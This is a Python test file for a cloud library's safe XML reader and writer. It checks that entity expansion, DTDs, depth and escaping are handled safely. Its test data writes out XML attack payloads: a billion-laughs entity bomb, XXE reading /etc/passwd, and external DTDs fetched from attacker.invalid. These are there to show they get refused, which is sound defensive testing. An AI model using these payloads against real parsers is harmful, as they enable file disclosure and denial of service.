"""The safe XML reader refuses DTDs and entities in every disguise; the writer escapes."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest
from cloudcore.exceptions import ResponseParserError
from cloudcore.protocols.xml_codec import MAX_DEPTH, XmlWriter, element_text, read_xml

if TYPE_CHECKING:
    from xml.etree.ElementTree import Element

BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    b' <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">\n'
    b' <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">\n'
    b"]>\n<lolz>&lol3;</lolz>"
)
XXE_FILE = (
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>'
)
XXE_PARAMETER = (
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.invalid/x.dtd">'
    b"%p;]><r/>"
)
EXTERNAL_DTD = b'<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://attacker.invalid/x.dtd"><r/>'
UNPARSED = b'<!DOCTYPE r [<!NOTATION n SYSTEM "x"><!ENTITY e SYSTEM "y" NDATA n>]><r/>'


def _utf16(text: str) -> bytes:
    return text.encode("utf-16")


ATTACKS = {
    "billion laughs": BILLION_LAUGHS,
    "external entity (file)": XXE_FILE,
    "external parameter entity": XXE_PARAMETER,
    "external DTD": EXTERNAL_DTD,
    "unparsed entity": UNPARSED,
    "html doctype": b"<!DOCTYPE html><html><body>Bad gateway</body></html>",
    "doctype after whitespace and comment": (
        b"  \n<!-- hi -->\n<!DOCTYPE r [<!ENTITY a 'b'>]><r>&a;</r>"
    ),
    "utf-16 with BOM": _utf16(
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY a "b">]><r>&a;</r>'
    ),
    "utf-16 big endian": b"\xfe\xff"
    + '<!DOCTYPE r [<!ENTITY a "b">]><r>&a;</r>'.encode("utf-16-be"),
    "declared latin-1": (
        b'<?xml version="1.0" encoding="ISO-8859-1"?><!DOCTYPE r [<!ENTITY a "\xe9">]><r>&a;</r>'
    ),
    "lower-case keyword is not XML either": b"<!doctype r><r/>",
}


@pytest.mark.parametrize("payload", list(ATTACKS.values()), ids=list(ATTACKS))
def test_attack_payloads_are_refused(payload: bytes) -> None:
    with pytest.raises(ResponseParserError) as info:
        read_xml(payload, 200, "req-1")
    err = info.value
    assert err.fields["status_code"] == 200
    assert err.fields["request_id"] == "req-1"
    assert err.fields["body_start"]
    message = str(err)
    assert "HTTP status 200" in message


AWS_DECLARATION = b'<?xml version="1.0" encoding="UTF-8"?>'
# Enough markup ahead of the declaration that the depth-checking handlers take the elements
# instead of the C tree builder's own methods.
MANY_COMMENTS = b"<!-- padding -->" * (MAX_DEPTH + 1)


@pytest.mark.parametrize(
    "dtd",
    [
        b'<!DOCTYPE r [<!ENTITY a "b">]><r>&a;</r>',
        b'<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>',
        b'<!DOCTYPE r SYSTEM "http://attacker.invalid/x.dtd"><r/>',
    ],
    ids=["internal entity", "external entity", "external DTD"],
)
@pytest.mark.parametrize(
    "prefix", [AWS_DECLARATION, b"", AWS_DECLARATION + MANY_COMMENTS], ids=["c", "bare", "python"]
)
def test_dtd_is_refused_whichever_handlers_build_the_tree(prefix: bytes, dtd: bytes) -> None:
    # A UTF-8 document with little markup is built by the C TreeBuilder's methods; the
    # declaration handlers that refuse it are the same on every road.
    with pytest.raises(ResponseParserError, match="unsafe XML refused"):
        read_xml(prefix + dtd)


def test_dtd_refusal_names_the_reason() -> None:
    with pytest.raises(ResponseParserError, match="DOCTYPE lolz"):
        read_xml(BILLION_LAUGHS)
    with pytest.raises(ResponseParserError, match="not allowed"):
        read_xml(_utf16('<!DOCTYPE r [<!ENTITY a "b">]><r>&a;</r>'))


def test_undeclared_entity_is_an_error_not_an_expansion() -> None:
    with pytest.raises(ResponseParserError, match="undefined entity"):
        read_xml(b"<r>&xxe;</r>")


def test_predefined_and_character_references_still_work() -> None:
    root = read_xml(b"<r>&lt;a&gt; &amp; &quot;&apos; &#233;&#x1F600;</r>")
    assert root.text == "<a> & \"' \u00e9\U0001f600"


@pytest.mark.parametrize(
    "body",
    [b"", b"   \n", b"<r><a>1</a>", b"<r></s>", b"not xml at all", b"<r/><r/>", b"\xff\xfe\x00"],
)
def test_malformed_documents_raise_parser_error(body: bytes) -> None:
    with pytest.raises(ResponseParserError):
        read_xml(body, 500)


def test_depth_is_bounded() -> None:
    deep = b"<a>" * (MAX_DEPTH + 1) + b"</a>" * (MAX_DEPTH + 1)
    with pytest.raises(ResponseParserError, match="nested deeper"):
        read_xml(deep)
    ok = b"<a>" * 10 + b"</a>" * 10
    assert read_xml(ok).tag == "a"


@pytest.mark.parametrize(
    "declaration",
    [
        AWS_DECLARATION,
        b'<?xml version="1.0" encoding="ISO-8859-1"?>',
        b"<?xml version='1.0'?>",
    ],
)
def test_depth_limit_is_exact_on_every_road(declaration: bytes) -> None:
    at_limit = declaration + b"<a>" * MAX_DEPTH + b"x" + b"</a>" * MAX_DEPTH
    root = read_xml(at_limit)
    assert len(list(root.iter())) == MAX_DEPTH
    with pytest.raises(ResponseParserError, match="nested deeper"):
        read_xml(declaration + b"<a>" + at_limit[len(declaration) :] + b"</a>")


def test_utf16_deep_document_is_refused() -> None:
    deep = "<a>" * (MAX_DEPTH + 1) + "</a>" * (MAX_DEPTH + 1)
    with pytest.raises(ResponseParserError, match="nested deeper"):
        read_xml(deep.encode("utf-16"))


def test_namespaces_prefixes_and_attributes() -> None:
    doc = (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        b'<ListBucketResult xmlns="http://s3.amazonaws.com/doc/2006-03-01/" '
        b'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">'
        b'<s3:Name xmlns:s3="urn:x">bucket</s3:Name>'
        b'<Grantee xsi:type="CanonicalUser" id="1"><ID>abc</ID></Grantee>'
        b"</ListBucketResult>"
    )
    check_prefixed_document(read_xml(doc))
    # The same document with enough markup to take the Python handlers instead.
    check_prefixed_document(read_xml(doc.replace(b"?>", b"?>" + MANY_COMMENTS, 1)))


def check_prefixed_document(root: Element) -> None:
    assert root.tag == "ListBucketResult"
    assert [c.tag for c in root] == ["Name", "Grantee"]
    name = root.find("Name")
    assert name is not None and name.text == "bucket"
    grantee = root.find("Grantee")
    assert grantee is not None
    assert grantee.attrib["xsi:type"] == "CanonicalUser"
    assert grantee.attrib["id"] == "1"
    assert root.attrib["xmlns:xsi"] == "http://www.w3.org/2001/XMLSchema-instance"


def test_text_is_kept_verbatim_including_whitespace_and_cdata() -> None:
    root = read_xml(b"<r><a>  two  spaces </a><b><![CDATA[<not a tag>]]></b><c/></r>")
    values = {c.tag: element_text(c) for c in root}
    assert values == {"a": "  two  spaces ", "b": "<not a tag>", "c": ""}
    empty = root.find("c")
    assert empty is not None and empty.text is None


def test_writer_escapes_and_round_trips() -> None:
    nasty = "a<b>&c\"d'e\r\nf\tg"
    w = XmlWriter()
    w.open("Root", {"xmlns": "https://example.com/doc/", "note": nasty})
    w.element("Text", nasty)
    w.element("Empty", "")
    w.close("Root")
    data = w.encode()
    assert b"<Empty />" in data
    assert b"&lt;b&gt;&amp;c" in data
    root = read_xml(data)
    assert root.attrib["note"] == nasty
    assert root.attrib["xmlns"] == "https://example.com/doc/"
    text = root.find("Text")
    assert text is not None and text.text == nasty


def test_writer_collapses_an_empty_container() -> None:
    w = XmlWriter()
    w.open("Outer")
    w.open("Inner", {"xmlns:xsi": "urn:x"})
    mark = w.mark()
    w.close_or_collapse("Inner", mark)
    w.close("Outer")
    assert w.getvalue() == '<Outer><Inner xmlns:xsi="urn:x" /></Outer>'


def test_text_in_many_pieces_is_joined_in_order() -> None:
    # Longer than expat's text buffer, with references and CDATA splitting it further,
    # and text around child elements (only the element's own text counts).
    long = "ab&amp;c" * 5000
    doc = f"<r><a>{long}<![CDATA[<z>]]>{long}</a><b>1<c>in</c>2<d/>3</b></r>".encode()
    root = read_xml(doc)
    a, b = root
    assert a.text == "ab&c" * 5000 + "<z>" + "ab&c" * 5000
    assert element_text(b) == "123"
    assert [element_text(c) for c in b] == ["in", ""]
